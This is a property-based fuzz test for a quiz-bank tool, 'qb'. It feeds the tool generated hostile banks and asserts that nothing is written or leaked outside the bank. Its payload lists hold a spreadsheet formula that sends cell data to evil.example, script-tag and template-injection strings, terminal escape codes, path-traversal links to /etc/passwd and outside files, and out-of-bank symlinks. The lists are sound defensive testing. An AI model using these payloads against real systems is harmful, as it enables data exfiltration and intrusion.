"""Fuzzing qb over hostile banks (issue 10, docs/security.md).

Each generated bank mixes hostile names (separators, control characters,
formulas), hostile text, image paths out of the bank, huge numbers and
weights (.inf, .nan, 5,000 digits), deep nesting and symbolic links
(an item file and the cache folder linked out of the bank, a loop, a
planted render manifest). qb lints it and renders or exports it, and for
every run:

* no traceback, no internal error, an exit status of 0, 1 or 2;
* no file outside the output folder is written, replaced or deleted, and
  the bank is unchanged (but for its own lint cache);
* nothing of a file outside the bank (an item file or an image) reaches an
  output.

CI runs a few examples (QB_HYPOTHESIS_EXAMPLES, default 25); the longer run
and its result are in benchmarks/README.md.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shutil
import tempfile
from pathlib import Path
from typing import Dict, List

from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from conftest import BANK_YAML, run_in

EXAMPLES = int(os.environ.get("QB_HYPOTHESIS_EXAMPLES", 25))
# The text of a file outside the bank that an item file links to: it must
# reach no output.
SECRET = "TOKEN=hunter2"
# An image outside the bank that items point to: embedded, it would show as base64.
SECRET_PNG = b"\x89PNG\r\n\x1a\n" + SECRET.encode() * 4
SECRET_B64 = base64.b64encode(SECRET_PNG)[:24]

HOSTILE_NAMES = ["../x", "/tmp/qb-fuzz-x", "a/b", "..", ".", "\x1b[2J", "\x1b]0;pwned\x07", "x\ny", "=1+1",
                 "-rf", "+SUM(A1)", "@x", "\u202eevil", "CON", "a\\b", " ", "é中🙂", "%2e%2e", "x" * 300, "\t"]
HOSTILE_TEXT = HOSTILE_NAMES + [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "<script>alert(1)</script>", "{{ 7*7 }}", "{% raw %}",
    "]]>", "&amp;", "\x00", "\x01\x07\x0c\x19", "\r\n", "\u2028", "\ufeff", "**" * 50, "[a](" * 40,
    "<a " * 40, "*a " * 40, "![a](/etc/passwd)", "![b](../../outside/secret.png)",
    "![c](%2e%2e/%2e%2e/outside/secret.png)", "![d](../../outside/victim)"]
# File names the file system takes (no '/', no NUL), hostile otherwise.
FILE_NAMES = ["\x1b[2J.yaml", "a\nb.yaml", "=x.yaml", "-rf.yaml", "é中.yaml", "\u202ey.yaml", ".hidden.yaml",
              "x" * 200 + ".yaml", "plain.yaml"]

text = st.one_of(st.sampled_from(HOSTILE_TEXT), st.text(max_size=12))
name = st.one_of(st.sampled_from(HOSTILE_NAMES), st.text(min_size=1, max_size=8))
scalar = st.one_of(text, st.integers(), st.floats(allow_nan=True), st.booleans(), st.none())


@st.composite
def item(draw) -> dict:
    kind = draw(st.sampled_from(["single", "multiple", "open", "nonsense"]))
    data: dict = {"id": draw(name), "type": kind, "domain": draw(st.sampled_from(["ingestion", "store", "x/../y"])),
                  "stem": draw(text)}
    if kind == "open":
        data["answer"] = draw(text)
    else:
        options = draw(st.lists(st.fixed_dictionaries({"text": text}, optional={"correct": st.booleans(),
                                                                                  "why": text}),
                                min_size=0, max_size=5))
        data["options"] = options
    extra = draw(st.dictionaries(st.one_of(name, st.just("x-n")), scalar, max_size=2))
    data.update(extra)
    return data


@st.composite
def item_file(draw) -> str:
    """JSON (which is YAML) of a few items, or broken or deep YAML."""
    kind = draw(st.integers(0, 9))
    if kind == 0:
        return "items:\n  - " + draw(st.text(max_size=40))
    if kind == 1:
        depth = draw(st.integers(10, 1200))
        return "items: " + "[" * depth + "]" * depth + "\n"
    if kind == 2:
        digits = draw(st.integers(4000, 6000))
        return f"items:\n  - id: huge\n    type: open\n    stem: What?\n    answer: This.\n    x-n: {'1' * digits}\n"
    return json.dumps({"items": draw(st.lists(item(), min_size=1, max_size=4))}, ensure_ascii=draw(st.booleans()))


# Text that lints without errors but is hostile to the outputs: formulas
# for the CSV files, markup and template syntax for HTML, XML specials.
PRINTABLE = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "+1+2", "-2", "@SUM(A1)", "<script>alert(1)</script>",
             "{{ 7*7 }}", "{% raw %}", "]]>", "&amp;", "é中🙂", "a ../../x", "%2e%2e/", "'=x", "\u2028"]


@st.composite
def printable_file(draw) -> str:
    """Items without lint errors, hostile text where text goes: so that
    render and the exports run through and write."""
    def said(n: int) -> str:
        return draw(st.sampled_from(PRINTABLE)) + f" part {n}"

    items = []
    for _ in range(draw(st.integers(1, 4))):
        options = [{"text": said(1)}, {"text": said(2), "correct": True, "why": said(3)}, {"text": said(4)}]
        items.append({"id": "q" + draw(st.uuids()).hex[:12], "type": "single", "domain": "ingestion",
                      "stem": f"{said(5)}: which option is right?", "options": options, "explanation": said(6)})
    return json.dumps({"items": items}, ensure_ascii=False)


# One in five (hypothesis prefers a list's first element, so it comes first).
sometimes = st.sampled_from([False, False, False, False, True])


@st.composite
def hostile_bank(draw) -> dict:
    # Two banks in three print: render and the exports then write their files.
    printable = draw(st.sampled_from([True, True, False]))
    return {
        "files": draw(st.dictionaries(st.sampled_from(FILE_NAMES), printable_file() if printable else item_file(),
                                      min_size=1, max_size=3)),
        "schema_off": draw(st.booleans()),
        "forms": draw(st.lists(st.sampled_from(["A", "B"]) if printable and not draw(sometimes) else name,
                               min_size=1, max_size=3, unique=True)),
        "weights": "34" if printable else draw(st.sampled_from(["34", "0", "-1", ".inf", "1e400", ".nan", "text",
                                                                "[1, 2]", "1" * 5000])),
        # Each an error of lint: rarer in a printable bank, which should print.
        "link_item_out": draw(sometimes if printable else st.booleans()),
        "link_cache_out": draw(st.booleans()),
        "loop": draw(sometimes if printable else st.booleans()),
        "planted_manifest": draw(st.booleans()),
        "command": draw(st.sampled_from(["render", "anki", "csv", "gift", "moodle", "qti"])),
        "format": draw(st.sampled_from(["text", "json", "github", "sarif"])),
    }


def snapshot(folder: Path, skip: str = "") -> Dict[str, str]:
    """Every entry under ``folder`` (not following links) with its content's hash."""
    found = {}
    for path in sorted(folder.rglob("*")):
        rel = path.relative_to(folder).as_posix()
        if skip and (rel == skip or rel.startswith(skip + "/")):
            continue
        if path.is_symlink():
            found[rel] = "link:" + os.readlink(path)
        elif path.is_file():
            found[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
        else:
            found[rel] = "folder"
    return found


def build(world: Path, spec: dict) -> Path:
    root = world / "bank"
    (root / "items").mkdir(parents=True)
    (root / "exams").mkdir()
    bank_yaml = BANK_YAML.replace("weight: 34", f"weight: {spec['weights']}")
    if spec["schema_off"]:
        bank_yaml += "lint:\n  rules:\n    schema: off\n"
    (root / "bank.yaml").write_text(bank_yaml, encoding="utf-8")
    for file_name, content in spec["files"].items():
        (root / "items" / file_name).write_text(content, encoding="utf-8")
    (root / "exams" / "p.yaml").write_text(json.dumps({"exam": {"title": "t", "count": 1, "forms": spec["forms"]}},
                                                      ensure_ascii=False),
                                           encoding="utf-8")
    outside = world / "outside"
    (outside / "victim" / "src").mkdir(parents=True)
    (outside / "victim" / "src" / "main.c").write_text("code\n")
    (outside / "secret.yaml").write_text(f"items:\n  - id: secret\n    type: open\n    stem: {SECRET}\n")
    (outside / "secret.png").write_bytes(SECRET_PNG)
    os.utime(outside / "victim", (1_000_000_000, 1_000_000_000))
    if spec["link_item_out"]:
        (root / "items" / "linked.yaml").symlink_to(outside / "secret.yaml")
    if spec["link_cache_out"]:
        (root / ".qb_cache").symlink_to(outside)
    if spec["loop"]:
        (root / "items" / "loop").symlink_to("..")
    if spec["planted_manifest"]:
        (world / "out").mkdir()
        digest = hashlib.sha256(b"code\n").hexdigest()
        (world / "out" / ".qb-render.json").write_text(json.dumps(
            {"files": {"../outside/victim/src/main.c": digest, str(outside / "victim" / "src" / "main.c"): digest}}))
    return root


def check(result, what: str) -> None:
    out = (result.stdout or "") + (result.stderr or "")
    assert result.exception is None or isinstance(result.exception, SystemExit), \
        f"{what}: {type(result.exception).__name__}: {result.exception}"
    assert result.exit_code in (0, 1, 2), (what, result.exit_code, out)
    assert "internal error" not in out and "Traceback" not in out, (what, out)
    assert SECRET not in out, (what, out)
    # How often each command ran through, shown by --hypothesis-show-statistics.
    event(f"{what.split()[0]} exit {result.exit_code}")


@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=list(HealthCheck))
@given(hostile_bank())
def test_hostile_banks(spec):
    world = Path(tempfile.mkdtemp(prefix="qb-fuzz-"))
    try:
        root = build(world, spec)
        cache_is_ours = not spec["link_cache_out"]
        bank_before = snapshot(root, ".qb_cache" if cache_is_ours else "")
        outside_before = snapshot(world / "outside")
        manifest = (world / "out" / ".qb-render.json").read_bytes() if spec["planted_manifest"] else None

        check(run_in(world, "lint", "bank", "--format", spec["format"]), "lint")
        command = spec["command"]
        if command == "render":
            check(run_in(world, "render", "bank/exams/p.yaml", "-o", "out"), "render")
            written = "out"
        else:
            source = "bank/exams/p.yaml" if spec["planted_manifest"] else "bank"
            check(run_in(world, "export", command, source, "-o", f"exports/x.{command}"), f"export {command}")
            written = "exports"

        assert snapshot(root, ".qb_cache" if cache_is_ours else "") == bank_before
        assert snapshot(world / "outside") == outside_before
        allowed = {"bank", "outside", written}
        assert {p.name for p in world.iterdir()} <= allowed | {"out"}
        if manifest is not None and written != "out":
            assert (world / "out" / ".qb-render.json").read_bytes() == manifest
        for path in (world / written).rglob("*") if (world / written).exists() else ():
            assert not path.is_symlink()
            if path.is_file():
                data = path.read_bytes()
                assert SECRET.encode() not in data and SECRET_B64 not in data, path
    finally:
        shutil.rmtree(world, ignore_errors=True)


def test_the_generator_reaches_every_hostile_case():
    """The strategies above can produce each hostile feature (a check of the
    test itself, so a narrowed strategy is noticed)."""
    seen: List[str] = []

    @settings(max_examples=200, deadline=None, suppress_health_check=list(HealthCheck), database=None)
    @given(hostile_bank())
    def collect(spec):
        seen.extend(k for k in ("schema_off", "link_item_out", "link_cache_out", "loop", "planted_manifest")
                    if spec[k])
        seen.append(spec["command"])

    collect()
    assert {"schema_off", "link_item_out", "link_cache_out", "loop", "planted_manifest", "render", "qti"} <= set(seen)
